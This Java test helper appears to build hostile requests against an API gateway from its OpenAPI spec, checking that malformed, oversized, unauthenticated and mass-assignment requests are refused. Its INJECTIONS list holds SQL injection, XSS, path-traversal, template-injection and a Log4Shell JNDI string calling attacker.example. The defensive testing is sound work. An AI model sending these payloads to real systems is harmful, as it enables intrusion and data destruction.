package org.grassroots.systemtests;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

/**
 * Requests that must all be refused, generated for every operation of the gateway's merged OpenAPI document:
 * malformed JSON, wrong types, missing required and unknown extra fields, strings over their maxLength and
 * bodies over the gateway's limit, injection strings where a format (id, date, enum, email) is expected, bad
 * ids in paths, methods and content types an operation does not declare, and missing or forged credentials.
 * Reads (GETs) also get hostile query strings; those may succeed (they change nothing) but must not fail.
 * Path parameters are never an example value: every write names a resource that does not exist.
 */
final class HostileRequests {

    /** One request: what it tries, and whether a success would be a leak (a write must be refused). */
    record Hostile(String kind, String method, String path, String contentType, String body,
                   Map<String, String> headers, boolean mustBeRefused, boolean authenticated) {
        String describe() {
            return method + " " + (path.length() > 120 ? path.substring(0, 120) + "...(" + path.length() + " chars)" : path)
                    + " [" + kind + "]";
        }
    }

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE member; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd",
            "{{7*7}}", "\u0000nul", "%00", "1; SELECT pg_sleep(10)");
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Set<String> METHODS = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");

    private final JsonNode document;

    HostileRequests(JsonNode document) {
        this.document = document;
    }

    record Operation(String method, String template, JsonNode spec) {
        /** {@code security: []}, or an empty requirement beside the schemes (a token is optional). */
        boolean isPublic() {
            JsonNode security = spec.path("security");
            if (security.isMissingNode() || security.isEmpty()) {
                return true;
            }
            for (JsonNode requirement : security) {
                if (requirement.isEmpty()) {
                    return true;
                }
            }
            return false;
        }

        String contentType() {
            Iterator<String> types = spec.path("requestBody").path("content").fieldNames();
            return types.hasNext() ? types.next() : null;
        }
    }

    List<Operation> operations() {
        List<Operation> operations = new ArrayList<>();
        document.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(op -> {
            String method = op.getKey().toUpperCase(Locale.ROOT);
            if (METHODS.contains(method)) {
                operations.add(new Operation(method, path.getKey(), op.getValue()));
            }
        }));
        return operations;
    }

    List<Hostile> generate() {
        List<Hostile> requests = new ArrayList<>();
        Map<String, Set<String>> declared = new LinkedHashMap<>();
        for (Operation op : operations()) {
            declared.computeIfAbsent(op.template(), t -> new java.util.TreeSet<>()).add(op.method());
            forOperation(op, requests);
        }
        // Methods a path does not declare.
        declared.forEach((template, methods) -> {
            for (String method : List.of("PUT", "PATCH", "DELETE", "POST")) {
                if (!methods.contains(method)) {
                    requests.add(new Hostile("wrong method", method, fill(template, randomId()), "application/json",
                            "{}", Map.of(), true, true));
                    break;
                }
            }
        });
        return requests;
    }

    private void forOperation(Operation op, List<Hostile> out) {
        String path = fill(op.template(), randomId());
        boolean write = !op.method().equals("GET");
        // Bad ids in every path parameter.
        if (op.template().contains("{")) {
            for (String bad : List.of("not-a-uuid", "-1", "x".repeat(2000), INJECTIONS.get(1), INJECTIONS.get(4))) {
                out.add(new Hostile("bad id", op.method(), fill(op.template(), bad), op.contentType(),
                        op.contentType() == null ? null : validBody(op).toString(), Map.of(), write, true));
            }
        }
        // Missing and forged credentials.
        if (!op.isPublic()) {
            out.add(new Hostile("no credentials", op.method(), path, op.contentType(), bodyOrNull(op), Map.of(),
                    true, false));
            out.add(new Hostile("forged token", op.method(), path, op.contentType(), bodyOrNull(op),
                    Map.of("Authorization", "Bearer " + org.grassroots.testing.TestTokens.forged()), true, false));
            out.add(new Hostile("unknown API key", op.method(), path, op.contentType(), bodyOrNull(op),
                    Map.of("X-API-Key", "grk_" + "0".repeat(43)), true, false));
        }
        // Hostile query strings on reads (a write's query would ride on a valid body).
        for (JsonNode parameter : op.spec().path("parameters")) {
            if (write || !"query".equals(parameter.path("in").asText())) {
                continue;
            }
            String name = parameter.path("name").asText();
            for (String value : List.of("not-a-number", "99999999999999999999", INJECTIONS.get(0), "x".repeat(5000))) {
                out.add(new Hostile("hostile query", op.method(), path + "?" + name + "=" + encode(value),
                        op.contentType(), bodyOrNull(op), Map.of(), write, true));
            }
        }
        if (op.contentType() == null) {
            if (write) {
                // A body where none is declared, with a content type nobody accepts.
                out.add(new Hostile("unexpected body", op.method(), path, "application/xml",
                        "<member><id>1</id></member>", Map.of(), true, true));
            }
            return;
        }
        JsonNode schema = schema(op);
        String type = op.contentType();
        if (type.contains("csv")) {
            out.add(new Hostile("malformed CSV", op.method(), path, type, "no,such,columns\n1,2,3\n", Map.of(), true, true));
            out.add(new Hostile("malformed CSV", op.method(), path, type, "", Map.of(), true, true));
            out.add(new Hostile("wrong content type", op.method(), path, "application/json", "{}", Map.of(), true, true));
            return;
        }
        // Malformed JSON.
        for (String malformed : List.of("{\"a\":", "not json", "[1,2", "{\"a\":1}}", "\"just a string\"", "null",
                "{'single':'quotes'}", "{\"a\":1,}", "\uFEFF{}", "[]")) {
            out.add(new Hostile("malformed JSON", op.method(), path, type, malformed, Map.of(), true, true));
        }
        // Wrong content types.
        for (String wrong : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded")) {
            out.add(new Hostile("wrong content type", op.method(), path, wrong, validBody(op).toString(), Map.of(), true, true));
        }
        out.add(new Hostile("no content type", op.method(), path, null, null, Map.of(), true, true));
        // An oversized body (the gateway accepts 1 MB of JSON), announced with Expect: 100-continue as careful
        // clients do, so the refusal arrives before the body instead of as a connection reset mid-upload.
        out.add(new Hostile("oversized body", op.method(), path, type,
                "{\"padding\":\"" + "A".repeat(1_200_000) + "\"}", Map.of("Expect", "100-continue"), true, true));
        // Unknown fields: mass assignment attempts and plain extras.
        for (String extra : List.of("id", "version", "roles", "createdAt", "isAdmin", "__proto__")) {
            ObjectNode body = validBody(op);
            body.put(extra, extra.equals("roles") ? "admin" : "injected");
            out.add(new Hostile("extra field", op.method(), path, type, body.toString(), Map.of(), true, true));
        }
        JsonNode properties = schema.path("properties");
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (String field : required) {
            ObjectNode body = validBody(op);
            body.remove(field);
            out.add(new Hostile("missing field", op.method(), path, type, body.toString(), Map.of(), true, true));
        }
        properties.fields().forEachRemaining(property -> {
            String field = property.getKey();
            JsonNode propertySchema = resolve(property.getValue());
            ObjectNode wrongType = validBody(op);
            wrongType.set(field, wrongTypeFor(propertySchema));
            out.add(new Hostile("wrong type", op.method(), path, type, wrongType.toString(), Map.of(), true, true));
            if (propertySchema.has("maxLength")) {
                ObjectNode oversized = validBody(op);
                oversized.put(field, "x".repeat(propertySchema.path("maxLength").asInt() + 1));
                out.add(new Hostile("oversized string", op.method(), path, type, oversized.toString(), Map.of(), true, true));
            }
            if (isConstrained(propertySchema)) {
                for (String injection : List.of(INJECTIONS.get(1), INJECTIONS.get(2), INJECTIONS.get(3))) {
                    if (propertySchema.has("pattern") && java.util.regex.Pattern.compile(
                            propertySchema.path("pattern").asText()).matcher(injection).find()) {
                        continue; // JSON Schema patterns are unanchored: free text ("\\S") takes the string as a value
                    }
                    ObjectNode injected = validBody(op);
                    injected.put(field, injection);
                    out.add(new Hostile("injection string", op.method(), path, type, injected.toString(), Map.of(),
                            true, true));
                }
            }
        });
    }

    private String bodyOrNull(Operation op) {
        if (op.contentType() == null) {
            return null;
        }
        return op.contentType().contains("csv") ? "givenName,familyName,email\n" : validBody(op).toString();
    }

    /** A body that would be valid but for the one thing each request breaks. */
    private ObjectNode validBody(Operation op) {
        JsonNode value = sample(schema(op), 0);
        return value instanceof ObjectNode object ? object : NODES.objectNode();
    }

    private JsonNode schema(Operation op) {
        return resolve(op.spec().path("requestBody").path("content").path(op.contentType()).path("schema"));
    }

    private JsonNode sample(JsonNode schema, int depth) {
        schema = resolve(schema);
        if (schema.has("example")) {
            return schema.get("example");
        }
        if (schema.has("enum") && !schema.path("enum").isEmpty()) {
            return schema.path("enum").get(0);
        }
        if (schema.has("allOf") && !schema.path("allOf").isEmpty()) {
            return sample(schema.path("allOf").get(0), depth);
        }
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        String format = schema.path("format").asText("");
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 4) {
                    schema.path("properties").fields().forEachRemaining(p -> object.set(p.getKey(), sample(p.getValue(), depth + 1)));
                }
                yield object;
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (depth < 4) {
                    array.add(sample(schema.path("items"), depth + 1));
                }
                yield array;
            }
            case "integer" -> NODES.numberNode(schema.path("minimum").asInt(1));
            case "number" -> NODES.numberNode(schema.path("minimum").asDouble(1.0));
            case "boolean" -> NODES.booleanNode(true);
            default -> switch (format) {
                case "uuid" -> NODES.textNode(UUID.randomUUID().toString());
                case "date" -> NODES.textNode("2022-05-05");
                case "date-time" -> NODES.textNode("2001-11-26T10:00:00Z");
                case "email" -> NODES.textNode("someone." + UUID.randomUUID() + "@example.org");
                default -> NODES.textNode("Sample");
            };
        };
    }

    private static JsonNode wrongTypeFor(JsonNode schema) {
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "string");
        return switch (type) {
            case "integer", "number" -> NODES.textNode("not-a-number");
            case "boolean" -> NODES.textNode("maybe");
            case "array" -> NODES.objectNode().put("not", "an array");
            case "object" -> NODES.numberNode(42);
            default -> NODES.objectNode().put("not", "a string");
        };
    }

    private static boolean isConstrained(JsonNode schema) {
        return schema.has("enum") || schema.has("pattern")
                || Set.of("uuid", "date", "date-time", "email").contains(schema.path("format").asText(""))
                || Set.of("integer", "number", "boolean").contains(schema.path("type").asText(""));
    }

    private JsonNode resolve(JsonNode node) {
        JsonNode current = node;
        for (int i = 0; i < 10 && current.has("$ref"); i++) {
            current = document.at(current.get("$ref").asText().substring(1));
        }
        return current;
    }

    private static String fill(String template, String value) {
        return template.replaceAll("\\{[^}]+}", java.util.regex.Matcher.quoteReplacement(encode(value)));
    }

    private static String randomId() {
        return UUID.randomUUID().toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
